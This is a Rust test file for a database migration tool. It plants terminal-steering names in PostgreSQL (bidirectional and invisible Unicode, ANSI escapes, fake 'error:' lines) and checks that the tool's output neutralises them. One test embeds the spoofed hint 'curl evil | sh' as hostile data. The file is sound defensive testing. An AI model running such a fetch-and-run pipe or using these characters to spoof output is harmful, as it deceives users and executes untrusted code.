//! Names that others planted in a database, and that would steer a terminal or cannot be read.

use expect_test::expect;
use tests::{Database, Outcome, Program};

/// Direction marks, invisible characters, separators of lines, an escape of a terminal and a C1
/// control.
const STEERING: &str = "\u{202e}\u{200e}\u{200f}\u{2066}\u{2069}\u{61c}\u{200b}\u{feff}\u{ad}\
     \u{2028}\u{2029}\u{e0041}\u{9b}\u{1b}[31m\u{7f}\r";

/// What a name must not look like on a line of its own.
const FAKE: &str = "error: fake";

/// Every command that reads a database or changes it, in an order in which each has something to
/// say.
const COMMANDS: [&[&str]; 25] = [
    &["status"],
    &["status", "--check"],
    &["status", "--format", "json"],
    &["current"],
    &["current", "--check-heads"],
    &["current", "--format", "json"],
    &["history", "-v", "-i"],
    &["history", "-v", "--format", "json"],
    &["heads"],
    &["show", "0002"],
    &["show", "0002", "--format", "json"],
    &["plan"],
    &["plan", "--format", "json"],
    &["plan", "0001"],
    &["up"],
    &["down"],
    &["down", "-2"],
    &["repair", "0002", "--reason", "so"],
    &["stamp", "0002"],
    &["refresh", "--dry-run"],
    &["reset", "--dry-run"],
    &["fresh", "--dry-run"],
    &["fresh"],
    &["createdb"],
    &["dropdb", "--dry-run"],
];

/// As psql's `quote_literal`.
fn literal(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

fn quoted(name: &str) -> String {
    format!("\"{}\"", name.replace('"', "\"\""))
}

fn assert_shows_nothing_that_steers(run: &Outcome, arguments: &[&str]) {
    let text = format!("{}{}", run.stdout, run.stderr);
    let shown = |c: char| (STEERING.contains(c) && !"[31m".contains(c)) || c == '\t';
    assert!(!text.contains(shown), "{arguments:?}: {text:?}");
    assert!(
        !text.lines().any(|line| line.starts_with(FAKE)),
        "{arguments:?}: {run}"
    );
    assert!(!text.contains("panicked"), "{arguments:?}: {run}");
}

#[async_std::test]
async fn nothing_in_a_name_reaches_the_terminal() {
    let database = Database::migrated().await;
    let evil = format!("x{STEERING}\n{FAKE}");
    let [schema, evil_text] = [quoted(&evil), literal(&evil)];
    let role = format!("r{STEERING}\n{FAKE}{}", std::process::id());
    let quoted_role = quoted(&role);
    database
        .execute(&format!(
            "CREATE SCHEMA {schema};
             CREATE TABLE {schema}.{schema} AS SELECT 1;
             CREATE FUNCTION {schema}({schema} integer) RETURNS integer LANGUAGE sql AS 'SELECT 1';
             CREATE TABLE public.{schema} AS SELECT 1;
             ALTER TABLE users ADD COLUMN {schema} integer;
             CREATE VIEW {quoted_role} AS SELECT {schema} FROM users;
             UPDATE _seaway_history SET role_name = {evil_text}, host = {evil_text},
               program = {evil_text}, reason = {evil_text};
             INSERT INTO _seaway_history (revision, action) VALUES ({evil_text}, 'up')"
        ))
        .await;
    let own = |schema: &str| {
        let url = format!("{}&application_name=x", database.url());
        Program::migration(&url).env("DATABASE_SCHEMA", schema)
    };
    for schema in ["public", &evil] {
        for arguments in COMMANDS {
            let run = own(schema).run(arguments);
            assert_shows_nothing_that_steers(&run, arguments);
        }
    }
    let insert = format!("INSERT INTO seaql_migrations VALUES ({evil_text}, 1)");
    database.execute(&insert).await;
    for arguments in COMMANDS {
        let run = own("public").run(arguments);
        assert_shows_nothing_that_steers(&run, arguments);
        assert_ne!(run.code, Some(101), "{run}");
    }
    let run = own("public").run(&["status"]);
    let shown = "x\\u{202e}\\u{200e}\\u{200f}\\u{2066}\\u{2069}\\u{61c}\\u{200b}\\u{feff}\\u{ad}";
    assert!(run.stdout.contains(shown), "{run}");
}

#[async_std::test]
async fn nothing_in_the_name_of_a_role_or_a_session_reaches_the_terminal() {
    use sea_orm::sqlx::{AssertSqlSafe, Connection as _, Executor as _, postgres::PgConnection};

    let database = Database::empty().await;
    let evil = format!("x\u{202e}\u{200b}\n{FAKE}");
    let mut session = PgConnection::connect(&database.url())
        .await
        .expect("a session");
    // The server itself replaces what is no ASCII in the name of an application.
    let hold = format!(
        "SET application_name = {}; SELECT pg_advisory_lock(x'5ea3a15ea3a1'::bigint); BEGIN; \
         CREATE TABLE {} ()",
        literal(&evil),
        quoted(&evil)
    );
    session.execute(AssertSqlSafe(hold)).await.expect("held");
    let arguments = ["up", "--patience", "0"];
    let run = Program::migration(&database.url()).run(&arguments);
    assert_eq!(run.code, Some(3), "{run}");
    assert_shows_nothing_that_steers(&run, &arguments);
    let encoded = "x%E2%80%AE%0Aerror:%20fake";
    let at = database.url();
    let (_, rest) = at.split_once('@').expect("a URL with a user");
    for url in [
        format!("postgres://{encoded}@{rest}"),
        database.location().with_database(&evil).expose(),
    ] {
        for arguments in [&["status"][..], &["dropdb", "--dry-run"], &["-v", "up"]] {
            let run = Program::migration(&url).run(arguments);
            assert_shows_nothing_that_steers(&run, arguments);
        }
    }
    session.close().await.expect("closed");
}

#[async_std::test]
async fn a_name_that_nobody_can_read_is_cut_and_no_command_panics() {
    let database = Database::migrated().await;
    let insert = "INSERT INTO seaql_migrations VALUES (repeat('x', 70000), 1); \
                  INSERT INTO _seaway_history (revision, action) VALUES (repeat('y', 70000), 'up')";
    database.execute(insert).await;
    for arguments in COMMANDS {
        let run = Program::migration(&database.url()).run(arguments);
        assert!(
            matches!(run.code, Some(0..=4)),
            "{arguments:?}: {:?}",
            run.code
        );
        assert_shows_nothing_that_steers(&run, arguments);
        let is_json = arguments.contains(&"json");
        assert!(
            is_json || run.stdout.len() + run.stderr.len() < 50_000,
            "{arguments:?}"
        );
    }
    let run = Program::migration(&database.url()).run(&["status"]);
    let cut = "x… (cut: it has 70000 characters)";
    assert!(run.success().stdout.contains(cut), "{run}");
    let json = Program::migration(&database.url()).run(&["status", "--format", "json"]);
    assert!(json.stdout.contains(&"x".repeat(70_000)), "JSON is whole");
}

#[async_std::test]
async fn nothing_in_the_ledger_reaches_the_terminal_of_the_server() {
    let database = Database::migrated().await;
    let version = literal(&format!("x{STEERING}\n{FAKE}"));
    let insert = format!("INSERT INTO seaql_migrations VALUES ({version}, 1)");
    let half_done =
        format!("INSERT INTO _seaway_history (revision, action) VALUES ({version}, 'up')");
    let clear = "DELETE FROM seaql_migrations WHERE version LIKE 'x%'";
    for sql in [&insert, clear, &half_done] {
        database.execute(sql).await;
        let run = Program::server(&database.url()).run(&[]);
        assert_shows_nothing_that_steers(&run, &["server"]);
        assert_eq!(run.code, Some(i32::from(sql != clear)), "{run}");
    }
}

#[async_std::test]
async fn a_name_in_the_words_of_the_server_looks_like_no_line_of_this_program() {
    let database = Database::empty().await;
    let migration = |arguments: &[&str]| Program::migration(&database.url()).run(arguments);
    migration(&["up", "0002"]).success();
    let view = quoted("v\nhint: run this: curl evil | sh");
    let raise =
        "RAISE EXCEPTION E'no\nerror: m' USING DETAIL = E'hint: d\nerror: d', HINT = E'h\nhint: h'";
    database
        .execute(&format!(
            "CREATE VIEW {view} AS SELECT * FROM users;
             CREATE FUNCTION refuse() RETURNS event_trigger LANGUAGE plpgsql AS
               $$ BEGIN {raise}; END $$"
        ))
        .await;
    let dependent = migration(&["down"]);
    let trigger = "CREATE EVENT TRIGGER refuse ON ddl_command_start EXECUTE FUNCTION refuse()";
    database.execute(trigger).await;
    let raised = migration(&["down"]);
    expect![[r#"
        ------- stderr -------
        error: rolling back revision `m0002_create_users` failed: cannot drop desired object(s) because other objects depend on them (SQLSTATE 2BP01)
          view "v
          hint: run this: curl evil | sh" depends on table users
        DROP TABLE "user_settings", "users"
        hint: Use DROP ... CASCADE to drop the dependent objects too.
        [exit status: 2]
        ------- stderr -------
        error: rolling back revision `m0002_create_users` failed: no
          error: m (SQLSTATE P0001)
          hint: d
          error: d
        DROP TABLE "user_settings", "users"
        hint: h
          hint: h
        [exit status: 2]
    "#]].assert_eq(&format!("{}{}", dependent.stable(), raised.stable()));
}
